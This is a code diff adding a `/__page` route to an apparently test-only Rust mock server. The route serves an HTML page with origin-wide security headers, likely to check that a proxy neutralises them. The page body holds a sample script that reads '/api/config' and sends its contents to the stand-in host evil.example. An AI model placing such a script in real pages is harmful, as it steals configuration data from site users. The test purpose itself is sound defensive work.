@@ -12,7 +12,10 @@
 //!   other servers write it (lower-case percent-hex, `/` left unescaped);
 //! - `/__sized/<n>` → `n` bytes with a `Content-Length`;
 //! - `/__cors` → 200 with the CORS headers a public API sends (`Access-Control-Allow-Origin:
-//!   *` and friends), as GitHub's does.
+//!   *` and friends), as GitHub's does;
+//! - `/__page` → an HTML page with a script, and the headers that would act on the whole
+//!   origin (its own `Content-Security-Policy`, `Service-Worker-Allowed`, HSTS,
+//!   `Clear-Site-Data`).
 //!
 //! Bearer tokens made to expire ([`Counters::expiry`]) are refused with a 401.
 
@@ -119,6 +122,18 @@ async fn handle(State(c): State<Arc<Counters>>, req: Request) -> Response {
             .header("timing-allow-origin", "*")
             .header("x-kept", "yes")
             .body(Body::from("cors"))
+            .expect("response");
+    }
+    if path == "/__page" {
+        return Response::builder()
+            .header("content-type", "text/html")
+            .header("content-security-policy", "script-src *")
+            .header("service-worker-allowed", "/")
+            .header("strict-transport-security", "max-age=31536000")
+            .header("clear-site-data", "\"*\"")
+            .body(Body::from(
+                "<script>fetch('/api/config').then(r => r.text()).then(t => fetch('http://evil.example/?' + t))</script>",
+            ))
             .expect("response");
     }
     if path == "/__redirected" {
